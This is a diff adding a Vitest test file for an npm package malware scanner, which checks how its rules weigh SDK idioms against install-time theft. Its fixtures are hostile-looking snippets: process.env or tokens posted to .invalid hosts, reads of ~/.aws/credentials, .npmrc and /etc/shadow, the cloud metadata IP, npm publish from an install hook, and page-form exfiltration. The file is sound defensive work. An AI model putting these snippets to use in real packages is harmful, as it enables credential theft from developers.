@@ -1,0 +1,128 @@
+import { describe, expect, it } from 'vitest';
+import { INSTALL, jsFindings, ruleFindings, scanInline } from '../helpers.js';
+
+/**
+ * What SDKs, CLIs and browser tools legitimately do looks like a technique when read alone
+ * (popular packages checked: gcp-metadata, @smithy/credential-provider-imds, @azure/identity,
+ * prisma, npm-check-updates, pm2). These pin the weighing that keeps them quiet without losing
+ * the install-time and data-flow cases.
+ */
+describe('weighing by execution context (SDK idioms vs install-time theft)', () => {
+  const ownKey = `const https = require('https');
+    module.exports = function call(body) {
+      const req = https.request({ hostname: 'api.example.invalid', method: 'POST',
+        headers: { authorization: process.env.EXAMPLE_API_TOKEN } });
+      req.end(process.env.EXAMPLE_API_TOKEN + body);
+    };`;
+
+  it('one named token sent by an imported SDK file weighs medium, and the package stays clean', async () => {
+    const flow = (await ruleFindings('JS-010', ownKey)).at(0);
+    expect(flow?.severity).toBe('medium');
+    expect(flow?.evidence?.weighed).toMatch(/one named variable/);
+    const { verdict } = await scanInline({ 'index.js': ownKey });
+    expect(verdict.verdict).toBe('clean');
+  });
+
+  it('the same flow in an install script stays high and the package is not clean', async () => {
+    const code = ownKey
+      .replace('module.exports = function call(body) {', '(function call(body) {')
+      .replace(/};$/, "})('x');");
+    const f = await jsFindings({ 'install.js': code }, INSTALL());
+    expect(f.find((x) => x.ruleId === 'JS-010')?.severity).toBe('high');
+    const { verdict } = await scanInline({ 'install.js': code }, INSTALL());
+    expect(verdict.verdict).not.toBe('clean');
+  });
+
+  it('the whole environment stays critical at import', async () => {
+    const f = await ruleFindings(
+      'JS-010',
+      "require('https').request({ hostname: 'x.invalid', method: 'POST' }).end(JSON.stringify(process.env));",
+    );
+    expect(f[0]?.severity).toBe('critical');
+  });
+
+  it('a dynamic process.env[name] lookup is one variable, not the whole environment', async () => {
+    const f = await ruleFindings(
+      'JS-010',
+      "const k = process.argv[2];\nrequire('https').request({ hostname: 'x.invalid' }).end(process.env[k]);",
+    );
+    expect(f[0]?.severity).toBe('medium');
+    expect(String(f[0]?.message)).toContain('process.env[*]');
+  });
+
+  it('naming the cloud metadata service is low at import and medium at install', async () => {
+    const code = "exports.HOST = 'http://169.254.169.254';";
+    expect((await ruleFindings('NET-001', code))[0]?.severity).toBe('low');
+    const atInstall = (await jsFindings({ 'install.js': code }, INSTALL())).find(
+      (x) => x.ruleId === 'NET-001',
+    );
+    expect(atInstall?.severity).toBe('medium');
+  });
+
+  it('npm publish from a CLI module is medium; from an install script it keeps its weight', async () => {
+    const code = "require('child_process').execSync('npm publish --access public');";
+    const cli = (await ruleFindings('JS-001', code)).find((x) => /publish/.test(x.message));
+    expect(cli?.severity).toBe('medium');
+    const install = (await jsFindings({ 'install.js': code }, INSTALL())).find(
+      (x) => x.ruleId === 'JS-001' && /publish/.test(x.message),
+    );
+    expect(install?.severity).toBe('high');
+  });
+
+  it('credential-store names in a bundle-sized file weigh medium; in a small module they keep their weight', async () => {
+    const mention = "const p = require('path').join(require('os').homedir(), '.npmrc');\n";
+    const small = await ruleFindings('JS-004', mention);
+    expect(small[0]?.severity).toBe('high');
+    const bundle = await ruleFindings(
+      'JS-004',
+      mention + `var filler = ${JSON.stringify('x'.repeat(210 * 1024))};\n`,
+    );
+    expect(bundle[0]?.severity).toBe('medium');
+  });
+});
+
+describe('credential-store names: paths, not prose or hosts', () => {
+  it('does not read docs.aws.amazon.com as the ~/.aws folder', async () => {
+    expect(
+      await ruleFindings(
+        'JS-004',
+        "const DOC = 'https://docs.aws.amazon.com/sdkref/latest/guide/credentials.html';",
+      ),
+    ).toHaveLength(0);
+    expect(
+      await ruleFindings('JS-004', "const p = require('os').homedir() + '/.aws/credentials';"),
+    ).toHaveLength(1);
+  });
+
+  it('does not read an error message as a browser file', async () => {
+    expect(
+      await ruleFindings('JS-004', "throw new Error('No cached account found in local state.');"),
+    ).toHaveLength(0);
+    expect(
+      await ruleFindings('JS-004', "const p = require('path').join(profileDir, 'Local State');"),
+    ).toHaveLength(1);
+  });
+
+  it('/etc/passwd is an account list (medium); /etc/shadow holds password hashes (high)', async () => {
+    expect((await ruleFindings('JS-004', "require('fs').readFileSync('/etc/passwd');"))[0]?.severity).toBe(
+      'medium',
+    );
+    expect((await ruleFindings('JS-004', "require('fs').readFileSync('/etc/shadow');"))[0]?.severity).toBe(
+      'high',
+    );
+  });
+});
+
+describe('FormData', () => {
+  it('an empty multipart body is not form data taken from a page', async () => {
+    const code =
+      "const fd = new FormData(); fd.append('file', require('fs').readFileSync('a.tgz'));\nfetch('https://registry.example.invalid/upload', { method: 'POST', body: fd });";
+    expect(await ruleFindings('JS-010', code)).toHaveLength(0);
+  });
+
+  it('a FormData built from a page form still is', async () => {
+    const code =
+      "const fd = new FormData(document.querySelector('form'));\nfetch('https://x.invalid/c', { method: 'POST', body: fd });";
+    expect(await ruleFindings('JS-010', code)).toHaveLength(1);
+  });
+});
